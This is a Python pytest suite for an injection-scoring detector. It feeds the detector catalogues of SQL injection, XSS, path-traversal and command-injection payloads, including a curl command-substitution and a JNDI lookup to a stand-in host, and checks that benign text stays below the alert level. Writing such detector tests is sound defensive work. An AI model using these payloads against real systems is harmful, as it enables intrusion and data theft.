"""SQL injection, XSS, traversal and commands: the figures of the catalogue, floors, innocent text, every bound."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aivillage_observability.scoring import (
    ALERT_FROM,
    LISTED_FROM,
    TEXT_CHARS_MAX,
    Injection,
    historical_score,
    score_injection,
)
from aivillage_observability.scoring.decoding import FOCUS_CHARS, focus, readings
from aivillage_observability.scoring.score import excerpt

# The payloads of the catalogue and what the original gave them; ours must alert on each.
CATALOGUE = [
    ("' OR 1=1 --", 0.5),
    ("'; DROP TABLE users; --", 0.6),
    ("UNION SELECT * FROM passwords", 0.3),
    ("<script>alert('xss')</script>", 0.4),
    ("' OR '1'='1", 0.1),
    ("' UNION SELECT password FROM users --", 0.5),
    ("1' AND 1=1 --", 0.2),
    ("admin'--", 0.2),
    ("' OR 1=1#", 0.4),
    ("%27%20OR%201%3D1", 0.0),
    ("/**/UNION/**/SELECT", 0.2),
]
ATTACKS = {
    "sqli": [
        "1 or 1=1",
        "x') or ('a'='a",
        '" or "a" like "a',
        "5 and sleep(7)",
        "1; waitfor delay '0:0:9'",
        "9 union all select null, @@version, user()",
        "-1 /*!50000union*/ /*!50000select*/ 1,2",
        "1%2527%2520or%25201%253d1",
        "a\uff07 or 1=1 #",
        "1\x00or\x002=2",
        "x' || (select pass from t) || 'y",
        "7) order by 9 -- ab",
        "it' and id = 7 #",
        "1 and extractvalue(1, concat(0x7e, version()))",
        "(select 1 from information_schema.tables)",
        "'; exec xp_cmdshell 'dir'; --",
        '{"$where": "1"}',
        "*)(uid=*))(|(uid=*",
        "name or name=name --",
        "1 or 2 between 1 and 3",
        "x' having 1=1 --",
        "1 procedure analyse(1)",
        "x'|!'y",
        "2dunion select 3",
        "case 1 when 2 then 3 end",
        "ascii(substr(version(), 1, 1))",
    ],
    "xss": [
        "<img src=q onerror=print()>",
        '" onmouseover="confirm(2)',
        "<svg/onload=eval(name)>",
        "java\tscript:alert(3)",
        "&lt;script&gt;run()&lt;/script&gt;",
        "\\x3cscript\\x3e1",
        "%3Ciframe%20src=//h.example%3E",
        "';prompt(4)//",
        "data:text/html;base64,AAAA",
        "{{constructor.constructor('x')()}}",
        "<div style='width:expr/**/ession(1)'>",
        "[][(![]+[])[+[]]]",
        "<a href=' &#106;avascript:x()'>",
        "+ADw-script+AD4-",
        "<object data=x></object>",
        "document.cookie",
    ],
    "traversal": [
        "../../secret.txt",
        "..%2f..%2fx",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/x",
        "....//....//x",
        "/etc/passwd",
        "..\\..\\boot.ini",
        "%u002e%u002e%u002f%u002e%u002e%u002fx",
        "file:///var/x",
        "/././././x",
        "WEB-INF/web.xml",
    ],
    "command": [
        "; cat /etc/hosts",
        "x | whoami",
        "`id`",
        "$(curl http://h.example)",
        "a && ping -c 3 127.0.0.1",
        "() { :; }; x",
        "<?php system('x'); ?>",
        "${jndi:ldap://h.example/a}",
        "/bin/sh -c x",
        "<!--#exec cmd='x'-->",
    ],
}
INNOCENT = [
    'O\'Brien; "quoted" -- note /* x */',
    "the union select committee",
    "Conan O'Brien and D'Angelo",
    "select one of the options from the list",
    "drop table lamps and floor lamps",
    "Rock 'n' Roll",
    "5'10\" tall or 6'2\" tall",
    "black or white = both fine?",
    "R&D; sales & marketing",
    "SELECTED works, 2nd order by phone",
    '{"name": "O\'Neil", "tags": ["a", "b"], "count": 3}',
    "# Heading\n\n- one\n- two `code` and **bold**\n\n| a | b |\n|---|---|\n| type | id |",
    "https://shop.example/search?q=union+jack&page=2&sort=desc",
    "https://shop.example/a/b.html#part-2",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "if (a < b && c > d) { return a[0]; }",
    "price < 10 and weight > 3 kg",
    "The alert was confirmed, please prompt me again (or not).",
    "cat food; sleep mask | id card holder",
    "1 -- 2 -- 3",
    'e.g. 3/4"-1/2" pipe',
    "it's 5 o'clock -- somewhere",
    "Müller & Söhne GmbH, Straße 7",
    "a@b.example; c@d.example",
    "C:\\Users\\ana\\Documents\\plan.txt",
    "VGhhbmsgeW91IGZvciByZWFkaW5nIHRoaXM=",
    "2026-11-21T07:15:00+00:00",
    "f9b1c2d3-0000-4000-8000-aabbccddeeff",
    "Please update the set of tables and delete from the list what you do not need.",
    "I have 2 or 3 questions, and 1 more",
    'clubs where "lunacy finds you" and others do not',
    "",
]


def own(injection: Injection, kind: str) -> float:
    return float(getattr(injection, kind).value)


@pytest.mark.parametrize(("payload", "original"), CATALOGUE)
def test_every_payload_of_the_catalogue_alerts_and_keeps_its_floor(payload: str, original: float) -> None:
    found = score_injection(payload).worst
    assert historical_score(payload) == original
    assert found.value >= max(ALERT_FROM, original)
    assert found.reasons
    assert all(reason.text and reason.weight > 0 for reason in found.reasons)


@pytest.mark.parametrize(("kind", "payload"), [(kind, payload) for kind, list_ in ATTACKS.items() for payload in list_])
def test_an_attack_alerts_under_its_own_name(kind: str, payload: str) -> None:
    found = score_injection(payload)
    assert own(found, kind) >= ALERT_FROM
    assert any(reason.excerpt for reason in getattr(found, kind).reasons)


@pytest.mark.parametrize("text", INNOCENT)
def test_innocent_text_stays_below_what_is_listed(text: str) -> None:
    found = score_injection(text)
    assert found.worst.value < LISTED_FROM, found


def test_the_original_gave_the_two_innocent_texts_what_the_catalogue_says() -> None:
    assert [historical_score(text) for text in INNOCENT[:2]] == [0.6, 0.3]


@pytest.mark.parametrize(
    "attack", ["'\";-- /* */ union select 1 or 1=1 drop table t exec('x')", "<script> javascript: <iframe> ' \" ;"]
)
def test_an_attack_never_scores_lower_than_it_did(attack: str) -> None:
    assert score_injection(attack).worst.value >= historical_score(attack) >= 0.9


def test_a_payload_deep_in_a_long_text_is_found() -> None:
    prose = "The quick brown fox jumps over the lazy dog. " * 600
    assert score_injection(f"{prose} 1' or 1=1 -- {prose}").sqli.value >= ALERT_FROM
    assert score_injection(prose).worst.value == 0.0


def test_what_is_beyond_the_bound_is_not_read() -> None:
    assert score_injection("a" * TEXT_CHARS_MAX + "' or 1=1 --").worst.value == 0.0


@pytest.mark.parametrize(
    "sign", ["'", "(", "<a b='", "' or ", "%25", "&#x", "{{", "$(", "<", "\\", "--\n", "/*", "../"]
)
def test_a_text_of_signs_alone_is_read_in_part(sign: str) -> None:
    text = (sign * TEXT_CHARS_MAX)[:TEXT_CHARS_MAX]
    assert len(focus(text)) <= FOCUS_CHARS + 1
    assert 0.0 <= score_injection(text).worst.value <= 1.0


def test_decoding_is_bounded() -> None:
    nested = "%" + "25" * 40 + "27"
    assert len(readings(nested)) <= 4
    assert readings("plain") == ["plain"]
    assert readings("%27%20or%201=1")[-1] == "' or 1=1"


def test_excerpts_are_short_and_inert() -> None:
    shown = excerpt("a\x00b\x1b[31m" + "c" * 500)
    assert len(shown) <= 80
    assert shown.isprintable()


TEXTS = st.text(max_size=300) | st.lists(
    st.sampled_from(
        ["'", '"', "or", "1=1", "--", "<", "script", ">", "(", ")", "%27", "&lt;", "../", "|", "id", " ", "\0"]
    ),
    max_size=40,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_any_text_has_a_score_with_reasons(text: str) -> None:
    found = score_injection(text)
    for score in (found.sqli, found.xss, found.traversal, found.command):
        assert 0.0 <= score.value <= 1.0
        assert bool(score.reasons) == (score.value > 0)
    assert bool(found.event_type) == (found.worst.value > 0)
    if found.worst.value >= LISTED_FROM:
        assert found.worst.value >= historical_score(text)
